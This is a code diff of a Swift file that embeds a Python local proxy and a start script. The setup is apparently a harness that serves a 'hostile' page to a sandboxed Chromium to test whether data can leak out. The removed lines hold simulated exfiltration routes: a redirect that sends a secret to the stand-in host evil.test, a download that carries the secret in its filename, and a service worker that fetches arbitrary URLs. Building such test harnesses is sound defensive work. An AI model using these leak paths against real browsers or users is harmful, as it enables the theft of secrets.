@@ -9,63 +9,47 @@ enum BrowserHouse {
   static let proxyLabel = "the browser's proxy"
 
   /// Returns once it listens; what serves goes on behind it.
-  static let program = #"""
-    import os, socket, sys, threading
-    HOST, EVIL = "notebook.cordon.internal", "http://evil.test"
-    PAGE = "<!doctype html><meta charset=utf-8><title>hostile</title><p id=p>hostile page</p>"
-    WORKER = "onmessage = e => fetch(e.data, {mode: 'no-cors'}).catch(() => 0);" \
-             "onactivate = e => e.waitUntil(clients.claim())"
-    def answer(target):
-        path, _, secret = target.partition("?")
-        plain = [("Content-Type", "text/html; charset=utf-8")]
-        if path == "/attachment":
-            return 200, [("Content-Type", "application/octet-stream"),
-                         ("Content-Disposition", f'attachment; filename="{secret}.csv"')], secret
-        if path == "/redirect":
-            return 302, [("Location", f"{EVIL}/redirected?{secret}")], ""
-        if path == "/worker.js":
-            return 200, [("Content-Type", "text/javascript")], WORKER
-        return 200, plain, PAGE
-    def pump(source, target):
-        try:
-            while data := source.recv(65536):
-                target.sendall(data)
-        except OSError:
-            pass
-        for end in (source, target):
-            try: end.shutdown(socket.SHUT_RDWR)
-            except OSError: pass
-    def serve(client):
-        try:
-            head = b""
-            while b"\r\n\r\n" not in head:
-                data = client.recv(65536)
-                if not data or len(head) > 1 << 20: return client.close()
-                head += data
-            method, target = head.split(b"\r\n", 1)[0].decode("latin-1").split(" ")[:2]
-            named = target.startswith(f"http://{HOST}/")
-            direct = target.startswith("/") and f"host: {HOST}" in head.decode("latin-1").lower()
-            if method in ("GET", "POST") and (named or direct):
-                status, fields, body = answer(target.removeprefix(f"http://{HOST}"))
-                fields += [("Content-Length", str(len(body))), ("Connection", "close"), ("Cache-Control", "no-store")]
-                lines = "".join(f"{name}: {value}\r\n" for name, value in fields)
-                client.sendall(f"HTTP/1.1 {status} Drill\r\n{lines}\r\n{body}".encode())
-                return client.close()
-            sink = socket.socket(socket.AF_UNIX)
-            sink.connect(sys.argv[1])
-            sink.sendall(head)
-            threading.Thread(target=pump, args=(sink, client), daemon=True).start()
-            pump(client, sink)
-        except (OSError, ValueError):
-            client.close()
-    door = socket.socket()
-    door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    door.bind(("127.0.0.1", 3128))
-    door.listen(128)
-    if os.fork(): os._exit(0)
-    while True:
-        threading.Thread(target=serve, args=(door.accept()[0],), daemon=True).start()
-    """#
+  static let program =
+    "import sys\nATTEMPTS = sys.argv[2]\n" + HostilePage.answers
+      + #"""
+
+      import socket, threading
+      HOST = "notebook.cordon.internal"
+      def pump(source, target):
+          try:
+              while data := source.recv(65536):
+                  target.sendall(data)
+          except OSError:
+              pass
+          for end in (source, target):
+              try: end.shutdown(socket.SHUT_RDWR)
+              except OSError: pass
+      def serve(client):
+          try:
+              head = request(client)
+              if not head: return client.close()
+              method, target = head.split(b"\r\n", 1)[0].decode("latin-1").split(" ")[:2]
+              named = target.startswith(f"http://{HOST}/")
+              direct = target.startswith("/") and f"host: {HOST}" in head.decode("latin-1").lower()
+              if method in ("GET", "POST") and (named or direct):
+                  client.sendall(reply(target.removeprefix(f"http://{HOST}")))
+                  return client.close()
+              sink = socket.socket(socket.AF_UNIX)
+              sink.connect(sys.argv[1])
+              sink.sendall(head)
+              threading.Thread(target=pump, args=(sink, client), daemon=True).start()
+              pump(client, sink)
+          except (OSError, ValueError):
+              client.close()
+      door = socket.socket()
+      door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+      door.bind(("127.0.0.1", 3128))
+      door.listen(128)
+      if os.fork(): os._exit(0)
+      while True:
+          threading.Thread(target=serve, args=(door.accept()[0],), daemon=True).start()
+
+      """#
 
   /// Sets up what a column has, starts the house and becomes the browser, whose pipe is at 3 and 4.
   static let start = #"""
@@ -77,7 +61,7 @@ enum BrowserHouse {
       mkdir -p /etc/chromium/policies/managed
       cp "$folder/policy.json" /etc/chromium/policies/managed/cordon.json
     fi
-    python3 -I "$folder/house.py" "$folder/browser-proxy" </dev/null >/dev/null
+    python3 -I "$folder/house.py" "$folder/browser-proxy" "$folder/attempts-$setting.json" </dev/null >/dev/null
     exec 3<&0 4>&1 </dev/null >/dev/null
     exec "$@"
     """#
